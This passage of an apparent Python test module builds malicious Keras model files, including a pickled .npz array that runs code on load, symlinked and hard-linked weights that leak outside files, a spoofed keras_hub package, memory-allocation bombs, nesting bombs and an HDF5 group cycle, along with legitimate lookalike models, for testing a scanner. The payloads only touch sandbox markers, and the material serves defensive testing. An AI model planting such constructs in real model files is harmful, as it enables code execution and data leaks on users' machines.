    Payload("deep-nesting-keras", "deep_nesting.keras", "hardening", _NESTING,
            ("deep-nesting",), "150 Sequential models nested in one another", _nested_models),
    Payload("deep-json-h5", "deep_json.h5", "hardening", _NESTING + " (legacy .h5)",
            ("unreadable",), "model_config nests JSON arrays 20,000 deep", _deep_json),
    Payload("spoofed-keras-hub", "spoofed_keras_hub.keras", "hardening (no advisory)",
            "a directory posing as a Keras package in the working directory", (),
            "a layer names keras_hub.src.models.evil; the sandbox holds a fake keras_hub whose "
            "__init__.py creates the sandbox marker", _spoofed_keras_hub,
            load_reasons=("spoofed-package",), from_sandbox=True),
    Payload("dir-symlinked-weights", "symlinked_weights_dir", "hardening (no advisory)",
            _DIRECTORY + ": symbolic link", ("directory-symlink",),
            "model.weights.h5 of an unzipped model is a symbolic link to a sandbox weights file "
            "whose kernel holds 1234.5", _directory(_dense_model, _symlinked_weights),
            leaks=True),
    Payload("dir-symlinked-asset", "symlinked_asset_dir", "hardening (no advisory)",
            _DIRECTORY + ": symbolic link", ("directory-symlink",),
            "the StringLookup vocabulary asset is a symbolic link to a sandbox text file",
            _directory(_adapted_lookup, _symlinked_asset), canary_name="outside_vocabulary.txt"),
    Payload("dir-hard-link", "hard_link_dir", "hardening (no advisory)",
            _DIRECTORY + ": hard link", ("directory-hard-link",),
            "model.weights.h5 is a hard link to a sandbox weights file whose kernel holds 1234.5",
            _directory(_dense_model, _hard_linked_weights), leaks=True),
    Payload("applications-lambda-keras", "applications_lambda.keras", _KERAS_CALLABLE_ADVISORY,
            _CALLABLE + " (keras.applications, Lambda)", ("non-modeling-callable",),
            "a Lambda calls keras.applications.resnet50.ResNet50 with weights=<a sandbox file>",
            _callable_lambda("keras.applications.resnet50", "ResNet50",
                             weights="<sandbox>/canary.weights.h5"),
            canary_name="canary.weights.h5"),
    Payload("datasets-lambda-keras", "datasets_lambda.keras", _KERAS_CALLABLE_ADVISORY,
            _CALLABLE + " (keras.datasets, Lambda)", ("non-modeling-callable",),
            "a Lambda calls keras.datasets.imdb.get_word_index (it reads or downloads a file "
            "through get_file; downloads are blocked in the measurement)",
            _callable_lambda("keras.datasets.imdb", "get_word_index")),
    Payload("applications-function-keras", "applications_function.keras",
            _KERAS_CALLABLE_ADVISORY, _CALLABLE + " (keras.applications, function reference)",
            ("non-modeling-callable",),
            "a Dense activation names keras.applications.resnet50.ResNet50",
            _activation("keras.applications.resnet50", "ResNet50")),
    Payload("datasets-function-keras", "datasets_function.keras", _KERAS_CALLABLE_ADVISORY,
            _CALLABLE + " (keras.datasets, function reference)", ("non-modeling-callable",),
            "a Dense activation names keras.datasets.mnist.load_data",
            _activation("keras.datasets.mnist", "load_data")),
    Payload("dense-bomb-keras", "dense_bomb.keras", "hardening (no advisory)",
            "config-only allocation bomb", ("allocation-bomb",),
            "the config declares a 2^20-wide input and Dense(2^20): a 4 TiB kernel Keras "
            "allocates before reading any weight; the machine refuses such an allocation at once",
            _dense_bomb),
    Payload("npz-pickle-keras", "npz_pickle.keras", "hardening (no advisory)",
            ".npz weights holding a pickled object array", ("npz-pickle",),
            "model.weights.npz holds an object array whose pickle calls open(<sandbox marker>, "
            "'w') when unpickled", _npz_weights(_pickled_arrays)),
    Payload("npz-shape-bomb-keras", "npz_shape_bomb.keras", "hardening (no advisory)",
            ".npz weights declaring a huge shape", ("npz-shape-bomb",),
            "model.weights.npz declares a 2^20 x 2^20 float32 array (4 TiB) and stores 16 bytes",
            _npz_weights(_bomb_arrays)),
    Payload("hdf5-group-cycle-keras", "hdf5_group_cycle.keras", "hardening (no advisory)",
            "weights HDF5 whose group tree is a cycle", ("hdf5-group-cycle",),
            "a hard link in the Dense layer's group points back to its parent group",
            _weights(_group_cycle)),
)  # fmt: skip


def _inline_vocabulary(layer: str, vocabulary: list[Any]) -> Callable[[Payload, Path], None]:
    """A lookup layer with its vocabulary given as a list, saved by Keras as it is."""

    def build(payload: Payload, out: Path) -> None:
        keras = _keras()
        dtype = "int64" if layer == "IntegerLookup" else "string"
        lookup = getattr(keras.layers, layer)(vocabulary=vocabulary)
        _save(keras.Sequential([keras.Input((1,), dtype=dtype), lookup]), payload, out)

    return build


def _named_function_lambda(payload: Payload, out: Path) -> None:
    keras = _keras()
    _save(_dense_model(keras.layers.Lambda(keras.activations.relu)), payload, out)


_LEGITIMATE = "none: a legitimate model"

# Legitimate models that look like payloads: scan must not flag them, Keras must load them.
LOOKALIKES: tuple[Payload, ...] = (
    Payload("string-lookup-list-keras", "ok_string_lookup.keras", _LEGITIMATE,
            "StringLookup with an inline vocabulary", (), "vocabulary=['a', 'b']",
            _inline_vocabulary("StringLookup", ["a", "b"])),
    Payload("text-vectorization-list-keras", "ok_text_vectorization.keras", _LEGITIMATE,
            "TextVectorization with an inline vocabulary", (), "vocabulary=['hello', 'world']",
            _inline_vocabulary("TextVectorization", ["hello", "world"])),
    Payload("integer-lookup-list-keras", "ok_integer_lookup.keras", _LEGITIMATE,
            "IntegerLookup with an inline vocabulary", (), "vocabulary=[1, 2]",
            _inline_vocabulary("IntegerLookup", [1, 2])),
    Payload("integer-lookup-list-h5", "ok_integer_lookup.h5", _LEGITIMATE,
            "IntegerLookup with an inline vocabulary (legacy .h5)", (), "vocabulary=[1, 2]",
            _inline_vocabulary("IntegerLookup", [1, 2])),
    Payload("string-lookup-list-h5", "ok_string_lookup.h5", _LEGITIMATE,
            "StringLookup with an inline vocabulary (legacy .h5)", (), "vocabulary=['a', 'b']",
            _inline_vocabulary("StringLookup", ["a", "b"])),
    Payload("lambda-named-function-keras", "ok_lambda_relu.keras", _LEGITIMATE,
            "Lambda calling a Keras function, no bytecode", (),
            "Lambda(keras.activations.relu)", _named_function_lambda),
)  # fmt: skip


def build_all(out: str | os.PathLike[str]) -> list[dict[str, Any]]:
    """Build every payload (and lookalike) into ``out``, write ``out/manifest.json``.

    Returns:
        The manifest entries of the payloads (the lookalikes are under ``"lookalikes"`` in the
        manifest only).

    Example:
        >>> entries = build_all("/tmp/payloads")  # doctest: +SKIP
        >>> entries[0]["name"], entries[0]["kinds"]  # doctest: +SKIP
        ('lambda-keras', ['lambda'])
    """
    folder = Path(out).resolve()
    folder.mkdir(parents=True, exist_ok=True)
    entries = []
    for payload in PAYLOADS + LOOKALIKES:
        payload.sandbox(folder).mkdir(parents=True, exist_ok=True)
        payload.build(payload, folder)
        if payload.marker(folder).exists():
            raise RuntimeError(f"building {payload.name} left its marker behind")
        entries.append(payload.to_dict(folder))
    manifest = {
        "python": sys.version.split()[0],
        "payloads": entries[: len(PAYLOADS)],
        "lookalikes": entries[len(PAYLOADS) :],
    }
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    return entries[: len(PAYLOADS)]


def main(argv: list[str] | None = None) -> int:
    """``python -m tests.malicious.payloads OUT_DIR``: build every payload, print one line each."""
    arguments = sys.argv[1:] if argv is None else argv
    if len(arguments) != 1:
        print("usage: python -m tests.malicious.payloads OUT_DIR", file=sys.stderr)
        return 2
    for entry in build_all(arguments[0]):
        print(f"{entry['name']:30} {entry['path']}")
    print(f"(and {len(LOOKALIKES)} legitimate lookalikes; see manifest.json)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
